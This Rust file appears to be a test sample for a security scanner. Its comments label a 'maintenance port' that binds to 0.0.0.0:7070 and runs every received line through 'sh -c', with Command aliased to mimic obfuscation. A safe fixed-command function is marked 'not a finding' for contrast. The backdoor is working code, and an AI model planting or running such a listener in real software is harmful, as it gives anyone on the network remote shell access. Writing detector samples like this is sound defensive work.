// A "maintenance port" that runs whatever it is sent; `Command` is re-exported
// under another name, as obfuscated code does.
use std::io::{BufRead, BufReader, Read};
use std::net::TcpListener;

mod jobs {
    pub use std::process::Command as Job;
}

fn run_line(line: &str) -> std::io::Result<std::process::Output> {
    jobs::Job::new("sh").arg("-c").arg(line).output()
}

pub fn maintenance_port() -> std::io::Result<()> {
    let listener = TcpListener::bind("0.0.0.0:7070")?;
    for stream in listener.incoming() {
        let mut reader = BufReader::new(stream?);
        let mut line = String::new();
        reader.read_line(&mut line)?;
        run_line(line.trim())?;
    }
    Ok(())
}

pub fn fixed_command(mut stream: std::net::TcpStream) -> std::io::Result<()> {
    let mut request = String::new();
    stream.read_to_string(&mut request)?;
    // The request only selects among fixed commands: not a finding.
    if request.trim() == "uptime" {
        jobs::Job::new("uptime").output()?;
    }
    Ok(())
}

fn main() {
    let _ = maintenance_port();
}
